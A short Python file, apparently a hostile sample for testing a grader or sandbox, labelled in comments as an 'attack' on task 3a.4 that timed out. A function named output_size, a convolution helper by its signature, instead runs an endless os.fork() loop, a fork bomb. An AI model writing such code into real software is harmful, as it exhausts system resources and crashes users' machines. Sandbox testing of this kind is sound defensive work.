# attack: doubles its processes until the machine is full
# task: 3a.4
# verdict: timed out
# slow: waits for its time limit

import os


def output_size(size, kernel_size, stride, padding):
    while True:
        try:
            os.fork()
        except OSError:
            pass
